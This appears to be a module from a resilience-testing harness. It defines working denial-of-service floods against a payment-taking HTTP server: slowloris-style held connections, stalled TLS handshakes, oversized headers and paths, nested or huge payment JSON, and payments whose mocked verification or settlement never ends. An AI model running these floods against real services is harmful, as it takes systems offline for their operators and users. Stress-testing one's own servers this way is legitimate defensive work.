"""Floods over TCP, TLS and HTTP/1, and floods of payments. Each goes on until it is cancelled."""

import asyncio
import base64
import contextlib
import json
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field

from core import http1, pay
from core.attack import Need
from core.http1 import Headers
from core.scene import Scene
from core.target import Way
from core.wire import Connection, Door, Exchange

CONNECTIONS = 200
WORKERS = 8
"""Tasks of a flood that send as fast as they are answered."""
PATIENCE_SECONDS = 3.0
PAYMENTS = 400
DEAF = 16
"""Connections from which nothing is read."""
KEPT_MAX = 12
READ_BYTES_MAX = 1 << 16
"""Most that a flood reads of one connection: it is here to ask."""


@dataclass
class Progress:
    """What a flood tells of itself."""

    under_way: asyncio.Event = field(default_factory=asyncio.Event)
    exchanges: list[Exchange] = field(default_factory=list)
    """Some of what came back."""
    requests: int = 0
    over: bool = False
    """Set when the flood is to end."""

    def note(self, exchange: Exchange) -> None:
        self.requests += 1
        if len(self.exchanges) < KEPT_MAX:
            self.exchanges.append(exchange)


def scaled(scene: Scene, usual: int) -> int:
    return max(1, round(usual * scene.scale))


def door(scene: Scene) -> Door:
    return scene.target.plain or scene.target.doors[0]


async def keep_open(
    scene: Scene,
    progress: Progress,
    at: Door,
    begin: bytes,
    drip: bytes,
    count: int = CONNECTIONS,
    patience: float = PATIENCE_SECONDS,
) -> None:
    """Many connections that begin with some bytes, and go on with a few more now and then; what comes back is not read."""
    opened: list[Connection] = []
    try:
        for _ in range(scaled(scene, count)):
            opened.append(await Connection(at, patience=patience).__aenter__())
            await opened[-1].send(begin)
        progress.under_way.set()
        while not progress.over:
            await asyncio.sleep(0.2)
            for connection in opened if drip else []:
                await connection.send(drip)
    finally:
        await close_all(opened)


async def close_all(opened: list[Connection]) -> None:
    await asyncio.gather(*(connection.__aexit__() for connection in opened))


async def repeat(progress: Progress, once: Callable[[], Awaitable[Exchange | None]], workers: int = WORKERS) -> None:
    """The same again and again, by several at a time."""

    async def work() -> None:
        while not progress.over:
            with contextlib.suppress(OSError, asyncio.TimeoutError):
                exchange = await once()
                progress.note(exchange or Exchange())
            if progress.requests >= workers:
                progress.under_way.set()
            await asyncio.sleep(0)

    await asyncio.gather(*(work() for _ in range(workers)))


def request(scene: Scene, path: bytes, fields: Headers, method: bytes = b"GET", body: bytes = b"") -> bytes:
    return http1.request(method, path, [(b"Host", scene.target.host), *fields], body)


def holding(begin: Callable[[Scene], bytes], drip: bytes = b"") -> Callable[[Scene, Progress], Awaitable[None]]:
    """A flood of connections that are held."""

    async def flood(scene: Scene, progress: Progress) -> None:
        await keep_open(scene, progress, door(scene), begin(scene), drip)

    return flood


def asking(made: Callable[[Scene], bytes]) -> Callable[[Scene, Progress], Awaitable[None]]:
    """A flood of whole requests, each on a connection of its own."""

    async def flood(scene: Scene, progress: Progress) -> None:
        async def once() -> Exchange:
            async with Connection(door(scene), patience=PATIENCE_SECONDS) as connection:
                await connection.send(made(scene))
                connection.end()
                return await connection.read(lambda exchange: len(exchange.received) > READ_BYTES_MAX)

        await repeat(progress, once)

    return flood


async def silent_tls(scene: Scene, progress: Progress) -> None:
    """Connections to the address with TLS that never begin a handshake."""
    assert scene.target.tls
    await keep_open(scene, progress, Door(scene.target.tls.host, scene.target.tls.port), b"", b"")


async def half_tls(scene: Scene, progress: Progress) -> None:
    """Handshakes that begin and never go on: a record of 16 KiB that arrives byte by byte."""
    assert scene.target.tls
    plain = Door(scene.target.tls.host, scene.target.tls.port)
    await keep_open(scene, progress, plain, b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc\x03\x03", b"\0")


async def churn(scene: Scene, progress: Progress) -> None:
    """Connections that are opened and closed at once."""

    async def once() -> None:
        async with Connection(door(scene)):
            return None

    await repeat(progress, once)


async def pipelined(scene: Scene, progress: Progress) -> None:
    """Requests whose answers nobody reads, and which repeat so much that few of them fill every buffer on the way."""
    data = request(scene, scene.target.path + b"?" + b"a" * 30_000, []) * 100
    await keep_open(scene, progress, door(scene), data, b"", DEAF, 0.05)


def _presented(scene: Scene, header: bytes) -> bytes:
    return request(scene, scene.target.path, [(b"PAYMENT-SIGNATURE", header), (b"Connection", b"close")])


def presenting(made: Callable[[Scene, int], bytes]) -> Callable[[Scene, Progress], Awaitable[None]]:
    """A flood of payment headers."""

    async def flood(scene: Scene, progress: Progress) -> None:
        headers = [made(scene, turn) for turn in range(16)]
        await asking(lambda scene: _presented(scene, headers[progress.requests % len(headers)]))(scene, progress)

    return flood


def _deep(_scene: Scene, turn: int) -> bytes:
    return base64.b64encode(b'{"x402Version":2,"payload":' + b"[" * (5000 + turn))


def _many_members(_scene: Scene, turn: int) -> bytes:
    members = {f"k{number * 7919 % 10007}": number for number in range(900 + turn)}
    return base64.b64encode(json.dumps({"x402Version": 2, "payload": members, "accepted": members}).encode())[:16000]


def _large_numbers(scene: Scene, turn: int) -> bytes:
    payment = {
        "x402Version": 2,
        "accepted": {"amount": "9" * 4000},
        "payload": {"authorization": {"value": "1" * (4000 + turn)}},
    }
    return base64.b64encode(json.dumps(payment).encode())


def _wallet(scene: Scene, turn: int) -> bytes:
    """A signature that only a contract could have made: somebody else must be asked about it."""
    payer = pay.Payer.made_up(scene.random)
    authorization = payer.authorization(scene.offer, scene.random)
    return pay.encode(pay.message(scene.offer, authorization, scene.random.randbytes(2000 + turn)))


async def poor_payers(scene: Scene, progress: Progress) -> None:
    """Payments that are right in every part, by accounts that have no money."""
    await _payments(scene, progress, balance=0, wait=None)


async def slow_verification(scene: Scene, progress: Progress) -> None:
    """Payments whose verification takes as long as it takes."""
    await _payments(scene, progress, balance=None, wait="verify")


async def filled_claims(scene: Scene, progress: Progress) -> None:
    """Payments that are in use all at once: their settlements do not come to an end."""
    await _payments(scene, progress, balance=None, wait="settle")


async def _payments(scene: Scene, progress: Progress, balance: int | None, wait: str | None) -> None:
    over = asyncio.Event()
    present = [_prepare(scene, over, balance, wait) for _ in range(scaled(scene, PAYMENTS))]
    turn = 0

    async def once() -> Exchange:
        nonlocal turn
        header = present[turn % len(present)]
        turn += 1
        fields = [(b"PAYMENT-SIGNATURE", header)]
        return await scene.ask(Way.HTTP11, scene.target.path, headers=fields, patience=30)

    try:
        if wait is None:
            await repeat(progress, once)
        else:
            asked = [asyncio.create_task(once()) for _ in range(min(len(present), CONNECTIONS))]
            await asyncio.wait(asked, timeout=4)
            progress.under_way.set()
            await asyncio.Event().wait()
    finally:
        over.set()
        # What was bought in the end was settled; whoever was told anything else has nothing.
        for task in asked if wait else []:
            task.cancel()


def _prepare(scene: Scene, over: asyncio.Event, balance: int | None, wait: str | None) -> bytes:
    payer = pay.Payer.made_up(scene.random)
    account = payer.address.lower()
    script = type(scene.facilitator.script)()

    async def hold_verification(_asked: object, answer: object) -> object:
        await over.wait()
        return answer

    async def hold_settlement(_asked: object) -> None:
        await over.wait()

    if balance is not None:
        scene.facilitator.balances[account] = balance
    if wait == "verify":
        script.verify = hold_verification
    elif wait == "settle":
        script.before_settle = hold_settlement
    scene.facilitator.scripts[account] = script
    return pay.encode(payer.payment(scene.offer, scene.random))


def _large_head(scene: Scene) -> bytes:
    return request(scene, scene.target.path, [(b"X-Large", b"x" * 60_000)])


def _many_fields(scene: Scene) -> bytes:
    return request(scene, scene.target.path, [(b"x%d" % number, b"") for number in range(5000)])


def _long_target(scene: Scene) -> bytes:
    return request(scene, scene.target.path + b"?" + b"%22" * 20_000, [])


def _long_path(scene: Scene) -> bytes:
    return request(scene, scene.target.path + b"/%2e%2e%2f%5c;a" * 4000, [])


def _many_readings(scene: Scene) -> bytes:
    return request(scene, b"//a;x%252f" * 700 + scene.target.path, [])


def _endless_line(_scene: Scene) -> bytes:
    return b"GET /" + b"a" * 300_000


def _garbage(scene: Scene) -> bytes:
    return scene.random.randbytes(2000)


def _chunks(scene: Scene) -> bytes:
    head = request(scene, scene.target.free_path or b"/", [(b"Transfer-Encoding", b"chunked")], b"POST")
    return head + b"1;" + b"e" * 4000 + b"\r\nx\r\n" + b"1\r\nx\r\n" * 5000


def _begun_upload(path: str) -> Callable[[Scene], bytes]:
    def made(scene: Scene) -> bytes:
        target = scene.target.path if path == "priced" else scene.target.free_path or b"/"
        return request(scene, target, [(b"Content-Length", b"1000000")], b"POST", b"x")

    return made


PAYS = (Need.PAYMENT, Need.FACILITATOR)
RELOADS_APART = 0.02
"""Seconds between two times that the configuration is read again: far less than it takes."""


async def reloads(scene: Scene, progress: Progress) -> None:
    """The operator's configuration changes all the time, every other time to one that is wrong, while the priced page is
    asked for."""

    async def change() -> None:
        right = False
        while not progress.over:
            right = not right
            scene.reload(right)
            await asyncio.sleep(RELOADS_APART)

    async def once() -> Exchange:
        exchange = await scene.ask(Way.HTTP11, scene.target.path)
        if scene.secret.found([exchange]):
            progress.exchanges.append(exchange)
        return exchange

    try:
        await asyncio.gather(change(), repeat(progress, once))
    finally:
        # It goes on with the right one.
        scene.reload(True)


async def ordinary(scene: Scene, progress: Progress) -> None:
    """No attack: as many clients as a flood has, who ask for the free page as fast as they are answered."""
    fields = [(b"Connection", b"close")]
    await asking(lambda scene: request(scene, scene.target.free_path or b"/", fields))(scene, progress)


FLOODS: dict[str, tuple[Callable[[Scene, Progress], Awaitable[None]], tuple[Need, ...]]] = {
    "connections that say nothing": (holding(lambda _scene: b""), ()),
    "heads that never end": (holding(lambda scene: request(scene, scene.target.path, [])[:-2] + b"X: ", b"x"), ()),
    "lines that never end": (holding(lambda _scene: b"GET /", b"a"), ()),
    "uploads to the priced page that never end": (holding(_begun_upload("priced"), b"x"), ()),
    "uploads to a free page that never end": (holding(_begun_upload("free"), b"x"), ()),
    "answers that nobody reads": (pipelined, ()),
    "connections that come and go": (churn, ()),
    "silence instead of a TLS handshake": (silent_tls, (Need.TLS,)),
    "TLS handshakes that never end": (half_tls, (Need.TLS,)),
    "large heads": (asking(_large_head), ()),
    "thousands of headers": (asking(_many_fields), ()),
    "long queries": (asking(_long_target), ()),
    "long paths of doubtful spelling": (asking(_long_path), ()),
    "paths that can be read in thousands of ways": (asking(_many_readings), ()),
    "a line of 300 KB": (asking(_endless_line), ()),
    "random bytes": (asking(_garbage), ()),
    "tiny chunks": (asking(_chunks), ()),
    "payments nested 5000 deep": (presenting(_deep), ()),
    "payments with a thousand members": (presenting(_many_members), ()),
    "payments of large numbers": (presenting(_large_numbers), ()),
    "payments of contract wallets": (presenting(_wallet), (Need.PAYMENT,)),
    "payments by accounts without money": (poor_payers, PAYS),
    "payments whose verification does not end": (slow_verification, PAYS),
    "payments whose settlement does not end": (filled_claims, PAYS),
    "configurations that change all the time": (reloads, (Need.RELOAD,)),
}
"""Each with what it needs."""
